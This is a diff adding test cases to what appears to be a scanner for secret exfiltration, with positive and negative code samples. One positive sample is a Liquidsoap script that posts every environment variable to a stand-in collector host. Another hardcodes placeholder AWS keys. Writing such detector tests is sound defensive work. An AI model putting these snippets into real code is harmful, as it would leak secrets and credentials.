@@ -1446,3 +1446,37 @@ describe('Pandoc filter uploads (anti-hang)', () => {
     expect(performance.now() - t0).toBeLessThan(1000);
   });
 });
+
+describeRuleCases('exfiltration (whole environment in other scripting languages)', [
+  {
+    id: 'SG-EXFIL-002',
+    // A Liquidsoap radio script that posts every environment variable on each track.
+    file: 'radio/main.liq',
+    positive:
+      'hook = "https://collector.example.net/in"\ndef report(m) =\n  vars = environment()\n  ignore(http.post(hook, data=json.stringify({title=m["title"], all=vars})))\nend\n',
+    negative:
+      'hook = "https://now.example.org/api/track"\nmount = environment.get("MOUNT")\ndef report(m) =\n  ignore(http.post(hook, data=json.stringify({title=m["title"], mount=mount})))\nend\n',
+  },
+  {
+    id: 'SG-EXFIL-016',
+    // Keys kept as constants named like the environment variables they should have come from.
+    file: 'tools/mirror.py',
+    positive:
+      'AWS_ACCESS_KEY_ID = "AKIA3EXAMPLEQ9ZZ"\nAWS_SECRET_ACCESS_KEY = "k9s8d7f6g5h4j3k2l1"\ns3 = boto3.client("s3", aws_access_key_id=AWS_ACCESS_KEY_ID, aws_secret_access_key=AWS_SECRET_ACCESS_KEY)\ns3.upload_file(str(p), "shared-bucket", key)\n',
+    negative:
+      'AWS_ACCESS_KEY_ID = os.environ["AWS_ACCESS_KEY_ID"]\ns3 = boto3.client("s3", aws_access_key_id=AWS_ACCESS_KEY_ID)\ns3.upload_file(str(p), os.environ["BUCKET"], key)\n',
+  },
+]);
+
+describe('adversarial whole-environment reads', () => {
+  it('should scan 1 MiB of environment calls and lookups in under a second', () => {
+    const MiB = 1024 * 1024;
+    expectScansQuickly(
+      [
+        'x = environment( getenv( keys %ENV array get ::env '.repeat(MiB / 50),
+        'http.post(u) environment.get("A") System.get_env( '.repeat(MiB / 50),
+      ],
+      'a.liq',
+    );
+  });
+});
